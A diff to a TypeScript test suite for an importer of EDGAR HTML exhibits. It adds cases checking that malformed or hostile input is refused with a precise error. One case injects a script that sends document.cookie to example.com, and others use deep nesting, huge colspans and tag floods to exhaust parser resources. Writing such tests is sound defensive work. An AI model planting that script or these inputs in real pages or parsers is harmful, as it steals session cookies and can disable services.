@@ -6,6 +6,7 @@
  */
 import { readFileSync } from "fs";
 import { join } from "path";
+import { renderExhibit } from "../core/edgar-exhibit";
 
 const FILING = readFileSync(join(__dirname, "../../src/data/sources/kingsoft-cloud-2026q1-press-release.txt"), "utf8");
 const LINES = FILING.split("\n");
@@ -32,6 +33,15 @@ const bsCopy = (edit: (line: string) => string = (l) => l): string[] => ["", ...
 const withProse = (line: string): string => `${FILING}\n${line}`;
 /** Repeats `unit` to about `bytes` characters. */
 const fill = (unit: string, bytes: number): string => unit.repeat(Math.floor(bytes / unit.length));
+
+/** The filing as the EDGAR HTML exhibit, and where its last table (the cash flow statement) opens. */
+const EXHIBIT = renderExhibit();
+const EXHIBIT_LINES = EXHIBIT.split("\n");
+const LAST_TABLE = EXHIBIT_LINES.lastIndexOf(EXHIBIT_LINES.filter((l) => l.startsWith("<table")).pop()!) + 1;
+/** The exhibit with `html` put in place of its first figure cell's closing parenthesis ("(1,651,671" then ")"). */
+const inFirstCell = (html: string): string => EXHIBIT.replace(">)</font></td>", `>)</font>${html}</td>`);
+/** The exhibit with `html` before its closing </body>. */
+const beforeEnd = (html: string): string => EXHIBIT.replace("</body>", `${html}</body>`);
 
 /** A deterministic stream of bytes (xorshift), for a file of binary noise. */
 function noise(length: number): string {
@@ -154,7 +164,70 @@ export const RELEASE_CASES: ReleaseCase[] = [
     name: "a megabyte of binary noise",
     build: () => noise(MB),
     code: 1,
-    err: /^kc import: line \d+: the release has no BS table/,
+    err: /^kc import: line 1: this is not a results release: no headline such as/,
   },
-  { name: "an empty file", build: () => "", code: 1, err: /^kc import: line 1: the release has no BS table/ },
+  { name: "an empty file", build: () => "", code: 1, err: /^kc import: line 1: this is not a results release: no headline such as/ },
+
+  // The EDGAR HTML exhibit (issue 15): what a filed exhibit never holds is refused on its line, however large
+  { name: "the HTML exhibit as rendered", build: () => EXHIBIT, code: 0 },
+  {
+    name: "an HTML table never closed",
+    build: () => EXHIBIT.slice(0, EXHIBIT.lastIndexOf("</table>")),
+    code: 1,
+    err: new RegExp(`^kc import: line ${LAST_TABLE}: this table is never closed \\(no </table> before the end of the file\\)`),
+  },
+  {
+    name: "a table inside a table's cell",
+    build: () => inFirstCell("<table><tr><td>1</td></tr></table>"),
+    code: 1,
+    err: /^kc import: line \d+: a table inside a table \(the outer one opens on line \d+\): a results release's tables are never nested$/,
+  },
+  {
+    name: "100,000 tables opened inside one another",
+    build: () => beforeEnd("<table><tr><td>".repeat(100_000)),
+    code: 1,
+    err: /^kc import: line \d+: a table inside a table/,
+  },
+  {
+    name: "a table row of 10,000 columns",
+    build: () => beforeEnd(`<table>\n<tr>${"<td>1</td>".repeat(10_000)}</tr></table>`),
+    code: 1,
+    err: /^kc import: line \d+: a table row of 241 cells; a results release's rows have at most 240/,
+  },
+  {
+    name: "a cell spanning a billion columns",
+    build: () => beforeEnd(`<table>\n<tr><td colspan="1000000000">x</td></tr></table>`),
+    code: 1,
+    err: /^kc import: line \d+: a table row of 1000 cells; a results release's rows have at most 240/,
+  },
+  {
+    name: "a script in the exhibit",
+    build: () => beforeEnd(`<script>fetch("https://example.com/?" + document.cookie)</script>`),
+    code: 1,
+    err: /^kc import: line \d+: the file carries <script>, which a filed EDGAR exhibit never does \(EDGAR accepts no active content\): nothing was read$/,
+  },
+  {
+    name: "an iframe in a table cell",
+    build: () => inFirstCell(`<iframe src="https://example.com"></iframe>`),
+    code: 1,
+    err: /^kc import: line \d+: the file carries <iframe>/,
+  },
+  {
+    name: "unclosed bold and font tags up to the size limit after the exhibit",
+    build: () => beforeEnd(fill("<b><font>", 2 * MB - EXHIBIT.length - 10)),
+    code: 1,
+    err: /^kc import: line \d+: elements nested more than 200 deep/,
+  },
+  {
+    name: "closed tags up to the size limit after the exhibit",
+    build: () => beforeEnd(fill("<b><font>x</font></b><br>", 2 * MB - EXHIBIT.length - 10)),
+    code: 0,
+  },
+  {
+    name: "a million character references in one cell",
+    build: () => EXHIBIT.replace("&nbsp;(1,651,671", `&nbsp;(1,651,671${fill("&#8212;&nbsp;", 2 * MB - EXHIBIT.length - 10)}`),
+    code: 1,
+    err: /^kc import: line \d+: row 'Cost of revenues', column 'Three Months Ended Mar 31, 2025 RMB': '\(1,651,671[— ]{10,}\.\.\.' is not a number$/,
+    maxErrLength: 500,
+  },
 ];
